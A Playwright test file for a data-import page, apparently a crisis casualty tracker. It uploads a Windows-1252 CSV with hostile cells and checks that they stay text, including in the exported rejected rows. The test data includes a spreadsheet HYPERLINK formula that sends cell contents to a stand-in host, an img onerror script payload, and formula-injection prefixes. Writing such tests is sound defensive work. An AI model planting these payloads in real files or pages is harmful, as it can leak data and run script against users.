import { expectAccessible } from "./fixtures/expect-accessible";
import { testInOffice as test } from "./fixtures/own-office";
import { takeCsv } from "./fixtures/take-csv";
import { expect } from "./fixtures/test";
import { ImportPage, textFile } from "./pages/import-page";

test.setTimeout(180_000);

const FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"open")';
const MARKUP = '<img src="http://elsewhere.example/x.png" onerror="document.title=\'taken\'">';
const HEAD =
  "crisis,indicator,value,qualifier,population,measure,period_start,as_of,published,source_org,document_title,document_url,location,note";

const quote = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const row = (parts: { value: string; place?: string; title?: string; note?: string }): string =>
  [
    "Libya 2019,killed",
    quote(parts.value),
    "exact,journalists,cumulative,2019-04-04,2019-06-03,2019-06-05,WHO",
    quote(parts.title ?? "An invented report"),
    "https://example.org/invented",
    quote(parts.place ?? "Libya"),
    quote(parts.note ?? ""),
  ].join(",");

/** Rows that would be something else than text in a page or a spreadsheet, in Western letters. */
const HOSTILE = [
  HEAD,
  row({ value: FORMULA, note: "+1+1" }),
  row({ value: MARKUP, note: "@SUM(1)" }),
  row({ value: "12", place: `-2+3 ${MARKUP}` }),
  row({ value: "7", title: `${FORMULA} rapport d’août`, note: MARKUP }),
].join("\n");

test("formulas and markup in cells stay text, on a phone as in the rejected rows", async ({
  office,
}) => {
  const page = await office.open("reporter");
  await page.setViewportSize({ width: 360, height: 740 });
  const main = page.getByRole("main");
  const imports = new ImportPage(page);
  const isWhole = async (): Promise<void> => {
    const overflow = await page.evaluate(
      () => document.documentElement.scrollWidth - window.innerWidth,
    );
    expect(overflow).toBe(0);
    await expect(main.locator("img")).toHaveCount(0);
    await expect(page).not.toHaveTitle(/taken/);
    await expectAccessible(page);
  };
  // Windows-1252 has these letters where UTF-8 has none.
  const bytes = Buffer.from(HOSTILE.replaceAll("’", "\u0092"), "latin1");
  await imports.upload(textFile(`${MARKUP}.csv`, bytes));
  await imports.expectStep("How the file is read");
  await expect(page.getByLabel("Encoding")).toHaveValue("windows-1252");
  await expect(page.getByRole("heading", { level: 1 })).toContainText("onerror");
  await expect(page.getByRole("cell", { name: FORMULA }).first()).toBeAttached();
  await isWhole();
  await imports.press("Go on to the columns");
  await imports.expectStep("What the columns mean");
  await isWhole();
  await imports.press("Save and check the file");

  await imports.expectStep("Names");
  await expect(main).toContainText("-2+3 <img");
  await isWhole();
  // Nobody has to decide on it.
  await imports.press("Save and go on to the preview");
  expect(await imports.counts()).toMatchObject({ Errors: 3, New: 1 });
  await expect(page.getByRole("row", { name: /HYPERLINK/ })).toContainText(
    "is a formula without its result",
  );
  await isWhole();
  const link = page.getByRole("link", { name: "Download the rejected rows" });
  const { rows } = await takeCsv(page, link);
  const cells = rows.flatMap((one) => Object.values(one));
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells).toContain(`'${FORMULA}`);
  expect(cells).toContain("'+1+1");
  expect(cells).toContain(MARKUP);

  await imports.commit();
  await expect(imports.outcome().first()).toHaveText("1 figure waits for review.");
  await isWhole();
});
